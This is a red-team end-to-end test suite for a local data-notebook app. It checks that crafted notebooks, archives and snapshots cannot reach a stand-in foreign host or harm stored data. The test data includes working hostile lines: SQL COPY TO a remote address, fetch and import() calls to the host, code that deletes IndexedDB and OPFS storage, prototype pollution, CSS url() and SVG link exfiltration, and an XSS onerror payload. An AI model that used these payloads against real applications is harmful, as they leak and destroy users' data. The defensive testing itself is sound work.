/**
 * The red team (issue 14): every way data was once made to leave the machine, or the workspace to be
 * harmed, tried again against the built app. A listener on another loopback port stands for a foreign
 * host; every attack aims at it. Across the whole suite it must receive 0 requests, no dialog may
 * open, and the workspace's stored data must stay as it was. One browser, one page, attacks in order:
 *
 * - a crafted .md notebook: nothing runs on open, nor on the next load, until the user says so;
 * - SQL: read_text / read_csv / a file named as a table / ATTACH / COPY TO an address, SET to undo the
 *   lock, LOAD httpfs;
 * - TypeScript: `new Function` fed an object whose toString changes between reads, import(), fetch,
 *   IndexedDB, OPFS, Web Locks and the workspace's BroadcastChannel, and built-ins polluted for the
 *   next cell; a chart whose usermeta asks for actions and an editor on the foreign host;
 * - a workspace archive whose view definitions are hostile;
 * - a snapshot file crafted by hand: usermeta, href channel, xlink:href and CSS url()/image-set()/escapes;
 * - the XSS corpus of the snapshot suite;
 * - and the policy itself: headers from the server and from the service worker, the cells' sandbox
 *   has an opaque origin, and TypeScript cells still run offline.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import http from 'node:http';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { zipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { cell, openApp, resultRows, runEdited, settled, typeInto, type AppSession } from './browser';
import { freePort } from './server';
import { closePanel, localData, openPanel, panelFingerprints, ready, saved, type PanelFingerprints } from './workspace-helpers';
import { hostileNotebook } from './hostile';
import { snapshotHtml } from '../../src/snapshot/html';

let app: AppSession;
let listener: http.Server;
let foreignHost: string;
/** Every request the foreign host received. */
const hits: string[] = [];
/** Every dialog any page opened. */
const dialogs: string[] = [];
let storedBefore: { files: string[]; databases: string[] };
let fingerprintsBefore: PanelFingerprints;
const outDir = mkdtempSync(path.join(tmpdir(), 'longtail-redteam-'));

beforeAll(async () => {
  const port = await freePort();
  listener = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('export default 1;');
  });
  await new Promise<void>((resolve) => listener.listen(port, '127.0.0.1', resolve));
  foreignHost = `http://127.0.0.1:${port}`;
  app = await openApp({ userDataDir: mkdtempSync(path.join(tmpdir(), 'longtail-redteam-profile-')) });
  app.context.on('page', (p) => p.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss())));
  app.page.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss()));
  await ready(app.page);
  await saved(app.page);
  storedBefore = await localData(app.page);
  fingerprintsBefore = await panelFingerprints(app.page);
  await closePanel(app.page);
});

afterAll(async () => {
  await app?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

/** The attack notebook: each cell tries one way out. */
function attackNotebook(host: string): string {
  const cells: [string, string, string][] = [
    ['sql', 'sql_read_text', `SELECT * FROM read_text('${host}/sql-read-text?d=P0001')`],
    ['sql', 'sql_read_csv', `SELECT * FROM read_csv('${host}/sql-read-csv.csv')`],
    ['sql', 'sql_scan', `SELECT * FROM '${host}/sql-scan.csv'`],
    ['sql', 'sql_attach', `ATTACH '${host}/sql-attach.db' AS remote_db`],
    ['sql', 'sql_copy', `COPY (SELECT * FROM partners) TO '${host}/sql-copy.csv'`],
    ['sql', 'sql_unlock', 'SET autoinstall_known_extensions = true'],
    ['sql', 'sql_load', 'LOAD httpfs'],
    [
      'ts',
      'ts_function',
      `let reads = 0;\nconst body = { toString: () => (reads++ ? "return import('${host}/ts-function.js')" : 'return 1') };\nconst f = new Function(body as unknown as string);\nreturn [{ v: await f() }];`,
    ],
    ['ts', 'ts_import', `const m = await import('${host}/ts-import.js');\nreturn [{ v: m.default }];`],
    ['ts', 'ts_fetch', `const r = await fetch('${host}/ts-fetch');\nreturn [{ ok: r.ok }];`],
    ['ts', 'ts_idb', "const names = await indexedDB.databases();\nfor (const d of names) indexedDB.deleteDatabase(d.name!);\nreturn [{ deleted: names.length }];"],
    ['ts', 'ts_opfs', 'const root = await navigator.storage.getDirectory();\nfor await (const name of (root as any).keys()) await root.removeEntry(name, { recursive: true });\nreturn [{ done: 1 }];'],
    ['ts', 'ts_locks', "await navigator.locks.request('longtail-workspace', () => new Promise(() => {}));\nreturn [{ held: 1 }];"],
    [
      'ts',
      'ts_channel',
      "const c = new BroadcastChannel('longtail-workspace');\nc.postMessage({ type: 'take-over', tab: '0f8a2c4e-1d2b-4c3a-9e8f-123456789abc' });\nc.postMessage({ type: 'take-over' });\nreturn [{ origin: String(self.origin), posted: 2 }];",
    ],
    ['ts', 'pollute', "Array.prototype.map = function () { return [{ polluted: true }]; } as any;\n(Object.prototype as any).polluted = 'yes';\nreturn [{ a: 1 }];"],
    ['ts', 'after_pollute', 'const n = pollute.length;\nreturn [1, 2, 3].map((x) => ({ x: x * 2, n, polluted: String(({} as any).polluted) }));'],
    [
      'ts',
      'ts_chart',
      `display.chart({ usermeta: { embedOptions: { actions: true, editorUrl: '${host}/ts-chart-editor' } }, data: { values: [{ p: 'P0001', v: 3 }] }, mark: 'bar', encoding: { x: { field: 'p', type: 'nominal' }, y: { field: 'v', type: 'quantitative' } } });\ndisplay.markdown('<img src="${host}/ts-md-img.png"> <span style="background: url(${host}/ts-md-css)">shown</span>');\nreturn null;`,
    ],
    [
      'chart',
      'leaky_chart',
      `usermeta:\n  embedOptions:\n    actions: true\n    editorUrl: ${host}/chart-editor\ndata: { name: after_pollute }\nmark: bar\nencoding:\n  x: { field: x, type: ordinal }\n  y: { field: n, type: quantitative }`,
    ],
  ];
  return ['# Quarterly review', '', 'Looks harmless.', '', ...cells.flatMap(([kind, name, source]) => [`\`\`\`${kind} ${name}`, source, '```', ''])].join('\n');
}

const errorText = (page: Page, name: string) => cell(page, name).locator('[data-testid="cell-error"]').innerText();
const statusOf = (page: Page, name: string) => cell(page, name).getAttribute('data-status');

/** Every code cell has finished (done, error or not run). */
async function ranAll(page: Page): Promise<void> {
  await page.waitForFunction(
    () => {
      const cells = [...document.querySelectorAll<HTMLElement>('[data-testid="cell"]:not(.markdown)')];
      return cells.length > 0 && cells.every((c) => ['done', 'error', 'blocked'].includes(c.dataset.status ?? ''));
    },
    undefined,
    { timeout: 90_000 },
  );
}

/** Statuses of the code cells, by name. */
function statuses(page: Page): Promise<Record<string, string>> {
  return page.evaluate(() =>
    Object.fromEntries([...document.querySelectorAll<HTMLElement>('[data-testid="cell"]:not(.markdown)')].map((c) => [c.dataset.name ?? '', c.dataset.status ?? ''])),
  );
}

/** Attribute values anywhere in the page that name the foreign host. */
function foreignAttributes(page: Page, host: string): Promise<string[]> {
  return page.evaluate((h) => {
    const out: string[] = [];
    for (const el of document.querySelectorAll('*')) for (const a of el.attributes) if (a.value.includes(h)) out.push(`${el.tagName} ${a.name}=${a.value}`);
    return out;
  }, host.replace('http://', ''));
}

describe('the red team', () => {
  it('a crafted notebook opened from a file runs nothing, on open and on the next load, and says what it would do', async () => {
    const { page } = app;
    await page.locator('[data-testid="file-input"]').setInputFiles({ name: 'review.md', mimeType: 'text/markdown', buffer: Buffer.from(attackNotebook(foreignHost)) });
    const prompt = page.locator('[data-testid="run-prompt"]');
    await prompt.waitFor();
    await expect(prompt.locator('[data-testid="run-prompt-runs"]').innerText()).resolves.toBe('It would run 7 SQL cells, 10 TypeScript cells and 1 chart cell.');
    await expect(prompt.locator('[data-testid="run-prompt-reads"]').innerText()).resolves.toBe('partners');
    expect(new Set(Object.values(await statuses(page)))).toEqual(new Set(['idle']));
    await saved(page);
    await page.reload();
    await prompt.waitFor({ timeout: 90_000 });
    await expect(page.locator('[data-testid="notebook-title"]').innerText()).resolves.toBe('Quarterly review');
    expect(new Set(Object.values(await statuses(page)))).toEqual(new Set(['idle']));
    expect(hits).toEqual([]);
  });

  it('SQL cannot read or write an address, unlock the configuration or load an extension', async () => {
    const { page } = app;
    await page.locator('[data-testid="run-prompt-run"]').click();
    await ranAll(page);
    const refused = (file: string) =>
      new RegExp(`Longtail keeps your data on this machine: \`${foreignHost.replace(/\./g, '\\.')}/${file.replace(/[.?]/g, '\\$&')}\` cannot be read from a cell\\. Import the file instead\\.`);
    // A file named as a table never reaches the engine: the dependency graph finds no such relation.
    expect(await statusOf(page, 'sql_scan')).toBe('error');
    expect(await errorText(page, 'sql_scan')).toMatch(/is neither a table nor the name of a cell/);
    for (const [name, file] of [
      ['sql_read_text', 'sql-read-text?d=P0001'],
      ['sql_read_csv', 'sql-read-csv.csv'],
      ['sql_attach', 'sql-attach.db'],
      ['sql_copy', 'sql-copy.csv'],
    ] as const) {
      expect(await statusOf(page, name), name).toBe('error');
      expect(await errorText(page, name), name).toMatch(refused(file));
    }
    expect(await errorText(page, 'sql_read_text')).toMatch(/Line 1: SELECT \* FROM read_text\(/);
    expect(await errorText(page, 'sql_unlock')).toMatch(
      /locks it, so autoinstall_known_extensions cannot be changed from a cell/,
    );
    expect(await errorText(page, 'sql_load')).toMatch(/Longtail includes DuckDB without extensions and never downloads code/);
    expect(hits).toEqual([]);
  });

  it('TypeScript cells cannot compile text, import, fetch, or reach the storage, the locks or the channel of the app', async () => {
    const { page } = app;
    expect(await errorText(page, 'ts_function')).toMatch(/Code built from text \(new Function, eval\) cannot run in a cell/);
    expect(await errorText(page, 'ts_import')).toMatch(/import\(\) is not available\. Longtail keeps your data on this machine/);
    expect(await errorText(page, 'ts_fetch')).toMatch(/fetch is not available\. Longtail keeps your data on this machine/);
    // In an opaque origin IndexedDB refuses, and neither the storage manager (OPFS) nor Web Locks is there at all.
    for (const [name, refusal] of [
      ['ts_idb', /SecurityError: .*(denied|not allowed)/i],
      ['ts_opfs', /TypeError: Cannot read properties of undefined \(reading 'getDirectory'\)/],
      ['ts_locks', /TypeError: Cannot read properties of undefined \(reading 'request'\)/],
    ] as const) {
      expect(await statusOf(page, name), name).toBe('error');
      expect(await errorText(page, name), name).toMatch(refusal);
    }
    // The channel message went nowhere: the cell ran in an opaque origin, and this tab still owns the workspace.
    expect(await resultRows(page, 'ts_channel')).toEqual([['null', '2']]);
    await expect(page.locator('[data-testid="tab-notice"]').count()).resolves.toBe(0);
    expect(hits).toEqual([]);
  });

  it("no cell changes another cell's built-ins", async () => {
    const { page } = app;
    // Array.prototype.map and Object.prototype were changed by `pollute`; `after_pollute` runs in a fresh realm.
    expect(await resultRows(page, 'after_pollute')).toEqual([
      ['2', '1', 'undefined'],
      ['4', '1', 'undefined'],
      ['6', '1', 'undefined'],
    ]);
  });

  it("a chart's usermeta cannot turn on actions or an editor on another host", async () => {
    const { page } = app;
    // A chart cell refuses it outright…
    expect(await statusOf(page, 'leaky_chart')).toBe('error');
    expect(await errorText(page, 'leaky_chart')).toMatch(/usermeta\.embedOptions is not supported in a chart cell/);
    // …and a chart a TypeScript cell displays is drawn without it: no actions menu, no editor link; the
    // Markdown it displays keeps no image or style from the foreign host.
    const shown = cell(page, 'ts_chart');
    await shown.scrollIntoViewIfNeeded();
    await shown.locator('[data-testid="chart"] svg').waitFor();
    expect(await shown.locator('.vega-actions, .vega-embed details, summary').count()).toBe(0);
    expect(await foreignAttributes(page, foreignHost)).toEqual([]);
    expect(hits).toEqual([]);
  });

  it("a workspace archive with hostile view definitions is refused before any of it runs", async () => {
    const { page } = app;
    const archive = (sql: string) => {
      const manifest = {
        format: 'longtail-workspace-export',
        version: 1,
        exportedAt: new Date().toISOString(),
        notebooks: [],
        tables: [],
        views: [{ name: 'won', sql, fingerprint: '0'.repeat(64) }],
        current: null,
        settings: {},
        tableUse: {},
      };
      return Buffer.from(zipSync({ 'manifest.json': new TextEncoder().encode(JSON.stringify(manifest)) }));
    };
    for (const [sql, why] of [
      [`COPY (SELECT * FROM partners) TO '${foreignHost}/archive-copy.csv'`, 'it is not a CREATE VIEW statement'],
      [`CREATE VIEW won AS SELECT * FROM read_text('${foreignHost}/archive-read')`, 'it calls read_text(…), which reads outside the archive\'s tables'],
      ['CREATE VIEW won AS SELECT * FROM partners', 'it reads partners, which the archive does not hold'],
    ] as const) {
      await openPanel(page);
      await page.locator('[data-testid="import-workspace-input"]').setInputFiles({ name: 'shared.longtail.zip', mimeType: 'application/zip', buffer: archive(sql) });
      await page.locator('[data-testid="confirm-import"]').click();
      const notice = page.locator('[data-testid="workspace-notice"]', { hasText: 'is refused' });
      await notice.waitFor({ timeout: 30_000 });
      await expect(notice.innerText()).resolves.toContain(
        `The definition of view won is refused: ${why}. Only a SELECT over the archive's own tables can be imported. Your workspace is unchanged.`,
      );
      await notice.getByRole('button', { name: 'Dismiss' }).click();
      if (await page.locator('[data-testid="workspace-panel"][open]').count()) await closePanel(page);
    }
    expect(hits).toEqual([]);
  });

  it('a crafted snapshot keeps no link, action or style that reaches the foreign host, in the file and in the app', async () => {
    const { page } = app;
    const host = foreignHost;
    const chart = (display: object) => ({
      kind: 'chart',
      name: '',
      attrs: [],
      source: null,
      reads: [],
      status: 'done',
      error: null,
      result: { columns: [], rowCount: 0, rows: [], totals: null, note: null, displays: [display], elapsedMs: 1, finishedAt: 0, generatedSql: null },
    });
    const payload = {
      format: 'longtail-snapshot',
      version: 1,
      title: 'Crafted snapshot',
      fileName: 'crafted.md',
      createdAt: '2026-01-01T00:00:00.000Z',
      frontMatter: null,
      cells: [
        {
          kind: 'markdown',
          text: [
            `<div id="css1" style="background-image: image-set('${host}/snap-image-set' 1x)">image-set</div>`,
            '',
            `<div id="css2" style="background: u\\rl(${host}/snap-escaped)">escaped</div>`,
            '',
            `<p id="css3" style="background: url(${host}/snap-url)">url</p>`,
            '',
            `<img id="img1" src="${host}/snap-img.png">`,
          ].join('\n'),
        },
        chart({
          kind: 'vega-lite',
          spec: {
            usermeta: { embedOptions: { actions: true, editorUrl: `${host}/snap-editor` } },
            data: { values: [{ p: 'P0001', v: 3, u: `${host}/snap-mark` }] },
            mark: { type: 'bar', href: `${host}/snap-mark-prop` },
            encoding: { x: { field: 'p', type: 'nominal' }, y: { field: 'v', type: 'quantitative' }, href: { field: 'u', type: 'nominal' } },
          },
          svg: null,
          note: null,
        }),
        chart({
          kind: 'vega-lite',
          spec: null,
          svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="50"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><a xlink:href="${host}/snap-svg-xlink"><rect width="40" height="50" fill="url(#g)"/></a><a href="${host}/snap-svg-href"><rect x="40" width="40" height="50" style="fill: blue; background: url(${host}/snap-svg-style)"/></a><image href="${host}/snap-svg-image" x="80" width="40" height="50"/></svg>`,
          note: null,
        }),
      ],
      fingerprints: [],
      hidden: { code: true, cells: [], pseudonymised: null, capped: [] },
    };
    const viewer = {
      js: readFileSync('node_modules/.longtail/snapshot-viewer/viewer.js', 'utf8'),
      css: readFileSync('node_modules/.longtail/snapshot-viewer/viewer.css', 'utf8'),
    };
    const file = path.join(outDir, 'crafted.html');
    writeFileSync(file, snapshotHtml(payload as never, viewer));

    // Opened with a double click, network on: anything left would reach the listener.
    const reader = await app.context.newPage();
    reader.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss()));
    try {
      await reader.goto(pathToFileURL(file).href);
      await reader.locator('[data-testid="snapshot-chart"] svg').nth(1).waitFor({ timeout: 30_000 });
      await reader.locator('[data-testid="chart"] svg .mark-rect path, [data-testid="chart"] svg path').first().waitFor({ timeout: 30_000 });
      expect(await foreignAttributes(reader, host)).toEqual([]);
      expect(await reader.locator('.vega-actions, .vega-embed details, summary').count()).toBe(0);
      expect(await reader.locator('#css1, #css2, #css3').evaluateAll((els) => els.map((e) => e.getAttribute('style')))).toEqual([null, null, null]);
    } finally {
      await reader.close();
    }

    // The same file opened in the app: read-only, and just as inert.
    await page.locator('[data-testid="file-input"]').setInputFiles(file);
    await page.locator('[data-testid="snapshot-bar"]').waitFor();
    await page.locator('[data-testid="snapshot-chart"] svg').nth(1).waitFor({ timeout: 30_000 });
    expect(await foreignAttributes(page, host)).toEqual([]);
    expect(await page.locator('.vega-actions, .vega-embed details').count()).toBe(0);
    await page.locator('[data-testid="snapshot-close"]').click();
    expect(hits).toEqual([]);
  });

  it('runs nothing from the XSS corpus, even when the user lets the notebook run', async () => {
    const { page } = app;
    await page.locator('[data-testid="file-input"]').setInputFiles({ name: 'xss.md', mimeType: 'text/markdown', buffer: Buffer.from(hostileNotebook(foreignHost)) });
    await page.locator('[data-testid="run-prompt-run"]').click();
    await ranAll(page);
    await page.getByText('hover me').hover();
    await page.getByText('js link').click();
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await cell(page, 'partner').locator('tbody').innerText()).toContain('<img src=x onerror=window.__pwned=17>');
    expect(hits).toEqual([]);
  });

  it('received nothing on the foreign host, opened no dialog, and changed no stored data', async () => {
    const { page } = app;
    expect(hits).toEqual([]);
    expect(dialogs).toEqual([]);
    // The crafted snapshot was opened from a file: local, not a request to another host.
    expect(app.foreign().filter((u) => !u.startsWith('file:'))).toEqual([]);
    const storedAfter = await localData(page);
    expect(storedAfter.databases).toEqual(storedBefore.databases);
    for (const f of storedBefore.files) expect(storedAfter.files).toContain(f);
    const after = await panelFingerprints(page);
    expect(after.tables).toEqual(fingerprintsBefore.tables);
    for (const [file, sha] of Object.entries(fingerprintsBefore.notebooks)) expect(after.notebooks[file], file).toBe(sha);
    await closePanel(page);
  });

  it('serves every page with the policy, from the server and from the service worker; the cells run in an opaque origin, offline too', async () => {
    const { page, context, baseUrl } = app;
    const fromServer = await context.request.get(baseUrl);
    expect(fromServer.headers()['content-security-policy']).toMatch(/connect-src 'self' blob: data:/);
    // The service worker precaches the whole app (45 MB, the engine's wasm included) once the first screen is
    // up. Beside two busy loops this outlasted the first test's reload, and the badge never came: see
    // first-install.e2e.ts.
    await page.locator('[data-testid="offline-ready"]').waitFor({ timeout: 240_000 });
    // "Offline ready" comes once the worker is active; it takes this page over (clientsClaim) just after.
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, { timeout: 60_000 });
    const fromWorker = await page.evaluate(async () => ({
      controlled: navigator.serviceWorker.controller !== null,
      policy: (await fetch('/')).headers.get('content-security-policy'),
      meta: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? null,
    }));
    expect(fromWorker.controlled).toBe(true);
    expect(fromWorker.policy).toMatch(/connect-src 'self' blob: data:; .*frame-ancestors 'self'/);
    expect(fromWorker.meta).toMatch(/^default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-/);

    // Offline, served by the service worker: a TypeScript cell still runs in its sandbox.
    const welcome = page.locator('[data-testid="template"]', { hasText: 'Welcome to Longtail' });
    await welcome.click();
    // The start after the reload reopens what the store records as open: wait until it records the welcome.
    await welcome.and(page.locator('[aria-current="page"]')).waitFor();
    await ready(page);
    await page.waitForSelector('[data-testid="save-state"][data-state="saved"]', { timeout: 30_000 });
    await context.setOffline(true);
    try {
      await page.reload();
      await ready(page);
      await page.getByRole('button', { name: 'Add a TS (TypeScript) cell here' }).last().click();
      const name = (await page.locator('[data-testid="cell"]').last().getAttribute('data-name'))!;
      await typeInto(page, name, 'return [{ answer: 40 + 2, origin: String(self.origin) }];');
      await runEdited(page, name);
      expect(await resultRows(page, name)).toEqual([['42', 'null']]);
    } finally {
      await context.setOffline(false);
    }
    await settled(page);
    expect(hits).toEqual([]);
    expect(dialogs).toEqual([]);
  }, 400_000);
});
